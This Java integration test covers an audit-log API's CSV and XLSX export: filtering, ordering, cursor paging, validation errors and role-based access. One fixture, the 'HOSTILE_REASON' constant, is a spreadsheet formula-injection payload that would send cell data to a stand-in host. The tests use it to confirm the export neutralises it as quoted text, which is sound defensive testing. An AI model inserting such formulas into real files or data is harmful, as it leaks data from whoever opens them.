package io.outturn.query.audit;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.outturn.query.config.ProcessingGroups;
import io.outturn.query.testsupport.ExportedFiles;
import io.outturn.query.testsupport.ExportedFiles.Csv;
import io.outturn.query.testsupport.Ni130Revisions;
import io.outturn.query.testsupport.PublishedEvents.Published;
import io.outturn.query.testsupport.QuerySideIntegrationTest;
import io.outturn.query.testsupport.Seed001;
import io.outturn.values.IndicatorId;
import io.outturn.values.Target;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.bson.Document;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.test.web.servlet.MvcResult;

import java.math.BigDecimal;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;

import static io.outturn.query.testsupport.ExportedFiles.XLSX;
import static io.outturn.query.testsupport.ExportedFiles.csv;
import static io.outturn.query.testsupport.ExportedFiles.workbook;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * {@code GET /api/audit} as a file: the same filters and the same items as the JSON pages, every page at once,
 * read back with Commons CSV and Apache POI as a spreadsheet would open them.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AuditExportApiTest extends QuerySideIntegrationTest {

    private static final String NI130 = "NI130";
    private static final String HOSTILE_REASON = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"See the minute\")";
    private static final Instant EASED_AT = Instant.parse("2012-04-20T16:45:00Z");
    private static final int BULK = 1_234;

    @Autowired
    private ObjectMapper objectMapper;

    private List<Published> history;

    @BeforeAll
    void publish() {
        history = new ArrayList<>(Ni130Revisions.publish(events, IndicatorId.of(NI130)));
        // The issue's own example: 12,500 lowered to 9,000 after the year's results, with a reason a spreadsheet would run.
        history.addAll(events.at(EASED_AT).by("manager").because(HOSTILE_REASON).append(Seed001.revisedTarget(
                IndicatorId.of(NI130), Seed001.FY_2011_12, new Target.AtLeast(new BigDecimal("9000"), true), "9,000",
                Ni130Revisions.TWELVE_THOUSAND_FIVE_HUNDRED, "12,500")));
        events.at(Instant.parse("2011-05-01T12:00:00Z")).append(Seed001.reassessmentsDefined(IndicatorId.of("PB-KPI2")));
        projections.awaitCaughtUp(ProcessingGroups.AUDIT_LOG);
        insertBulkEntries();
    }

    @Test
    void anAuditorExportsOneIndicatorsEventsAsCsvNewestFirstWithTheJsonPayloads() throws Exception {
        MvcResult result = mockMvc.perform(get("/api/audit").param("aggregateId", NI130).param("format", "csv")
                        .with(httpBasic("auditor", "auditor")))
                .andExpect(status().isOk())
                .andExpect(content().contentType(ExportedFiles.CSV))
                .andExpect(header().string(HttpHeaders.CONTENT_DISPOSITION, "attachment; filename=\"outturn-audit.csv\""))
                .andReturn();

        Csv file = csv(result.getResponse().getContentAsByteArray());
        List<CSVRecord> rows = file.rows();
        assertThat(file.header()).containsExactly("eventId", "type", "aggregateType", "aggregateId", "sequence",
                "version", "recordedAt", "actor", "reason", "reasonCode", "correlationId", "source", "payload");
        assertThat(rows.stream().map(row -> row.get("sequence")))
                .containsExactly("7", "6", "5", "4", "3", "2", "1", "0");
        CSVRecord eased = rows.get(0);
        assertThat(eased.get("eventId")).isEqualTo(history.get(7).eventId());
        assertThat(eased.get("type")).isEqualTo("TargetSetEvent");
        assertThat(eased.get("version")).isEqualTo("8");
        assertThat(eased.get("recordedAt")).isEqualTo("2012-04-20T16:45:00Z");
        assertThat(eased.get("reason")).isEqualTo("'" + HOSTILE_REASON);
        JsonNode payload = objectMapper.readTree(eased.get("payload"));
        assertThat(payload.at("/target/value").decimalValue()).isEqualByComparingTo("9000");
        assertThat(payload.at("/previousPrinted").asText()).isEqualTo("12,500");
        assertThat(rows.get(7).get("source")).isEqualTo("import:" + Ni130Revisions.PLAN_SHA_256);
    }

    @Test
    void theExportHoldsExactlyTheItemsOfTheJsonPagesWithTheSameFilters() throws Exception {
        String json = mockMvc.perform(get("/api/audit").param("actor", "manager").param("size", "500")
                        .with(httpBasic("auditor", "auditor")))
                .andExpect(status().isOk())
                .andReturn().getResponse().getContentAsString();
        List<String> pagedIds = objectMapper.readTree(json).findValuesAsText("eventId");

        byte[] file = mockMvc.perform(get("/api/audit").param("actor", "manager").param("page", "3").param("size", "1")
                        .header(HttpHeaders.ACCEPT, "text/csv").with(httpBasic("auditor", "auditor")))
                .andExpect(status().isOk())
                .andReturn().getResponse().getContentAsByteArray();

        assertThat(pagedIds).hasSize(8);
        assertThat(csv(file).rows().stream().map(row -> row.get("eventId"))).containsExactlyElementsOf(pagedIds);
    }

    @Test
    void aWorkbookHasNumberCellsTimeCellsAndTheFormulaAsQuotedText() throws Exception {
        byte[] file = mockMvc.perform(get("/api/audit").param("aggregateId", NI130).param("type", "TargetSetEvent")
                        .header(HttpHeaders.ACCEPT, XLSX).with(httpBasic("auditor", "auditor")))
                .andExpect(status().isOk())
                .andExpect(content().contentType(XLSX))
                .andExpect(header().string(HttpHeaders.CONTENT_DISPOSITION, "attachment; filename=\"outturn-audit.xlsx\""))
                .andReturn().getResponse().getContentAsByteArray();

        try (XSSFWorkbook workbook = workbook(file)) {
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).isEqualTo(4);
            Row eased = sheet.getRow(1);
            assertThat(eased.getCell(4).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(eased.getCell(4).getNumericCellValue()).isEqualTo(7.0);
            assertThat(eased.getCell(5).getNumericCellValue()).isEqualTo(8.0);
            assertThat(eased.getCell(6).getLocalDateTimeCellValue())
                    .isEqualTo(LocalDateTime.ofInstant(EASED_AT, ZoneOffset.UTC));
            assertThat(eased.getCell(8).getStringCellValue()).isEqualTo(HOSTILE_REASON);
            assertThat(eased.getCell(8).getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(eased.getCell(9)).as("no justification: no reason code").isNull();
            assertThat(sheet.getRow(4).getCell(4).getNumericCellValue()).isEqualTo(1.0);
        }
    }

    /** The audit log is read through a cursor, {@link AuditLog#CURSOR_BATCH} entries per round trip. */
    @Test
    void anExportAcrossAggregatesReadsEveryMatchingEntryOfTheAuditLogThroughItsCursor() throws Exception {
        byte[] file = mockMvc.perform(get("/api/audit").param("actor", "bulk-importer").param("format", "csv")
                        .with(httpBasic("auditor", "auditor")))
                .andExpect(status().isOk())
                .andReturn().getResponse().getContentAsByteArray();

        List<CSVRecord> rows = csv(file).rows();
        assertThat(BULK).isGreaterThan(2 * AuditLog.CURSOR_BATCH);
        assertThat(rows).hasSize(BULK);
        assertThat(rows.get(0).get("sequence")).isEqualTo(Integer.toString(BULK - 1));
        assertThat(rows.get(BULK - 1).get("sequence")).isEqualTo("0");
    }

    @Test
    void aRequestRefusedBeforeTheExportBeginsIsAProblemDocument() throws Exception {
        mockMvc.perform(get("/api/audit").param("from", "last tuesday").param("format", "csv")
                        .with(httpBasic("auditor", "auditor")))
                .andExpect(status().isBadRequest())
                .andExpect(content().contentType("application/problem+json"))
                .andExpect(header().doesNotExist(HttpHeaders.CONTENT_DISPOSITION))
                .andExpect(jsonPath("$.errors[0].field").value("from"));
        mockMvc.perform(get("/api/audit").param("format", "pdf").with(httpBasic("auditor", "auditor")))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.code").value("VALIDATION_FAILED"))
                .andExpect(jsonPath("$.errors[0].field").value("format"));
        mockMvc.perform(get("/api/audit").param("from", "last tuesday").header(HttpHeaders.ACCEPT, "text/csv")
                        .with(httpBasic("auditor", "auditor")))
                .andExpect(status().isBadRequest())
                .andExpect(content().contentType("application/problem+json"));
    }

    @Test
    void onlyAuditorsAndAdminsMayExportTheAuditLog() throws Exception {
        mockMvc.perform(get("/api/audit").param("format", "csv")).andExpect(status().isUnauthorized());
        mockMvc.perform(get("/api/audit").param("format", "csv").with(httpBasic("viewer", "viewer")))
                .andExpect(status().isForbidden())
                .andExpect(content().contentType("application/problem+json"));
        mockMvc.perform(get("/api/audit").param("format", "xlsx").with(httpBasic("manager", "manager")))
                .andExpect(status().isForbidden());
        mockMvc.perform(get("/api/audit").param("aggregateId", "PB-KPI2").param("format", "csv")
                        .with(httpBasic("admin", "admin")))
                .andExpect(status().isOk());
    }

    private void insertBulkEntries() {
        List<Document> entries = new ArrayList<>();
        Instant start = Instant.parse("2013-01-01T00:00:00Z");
        for (int sequence = 0; sequence < BULK; sequence++) {
            entries.add(new AuditEntry("bulk-" + sequence, "ActualRecordedEvent", "io.outturn.events.ActualRecordedEvent",
                    "BULK-1", AuditEntry.INDICATOR, sequence, start.plusSeconds(sequence), "bulk-importer", null, null,
                    "bulk", "api", new Document("indicatorId", "BULK-1").append("fy", "2012-13"), "2012-13", null)
                    .toDocument());
        }
        mongo.getCollection(AuditEntry.COLLECTION).insertMany(entries);
    }
}
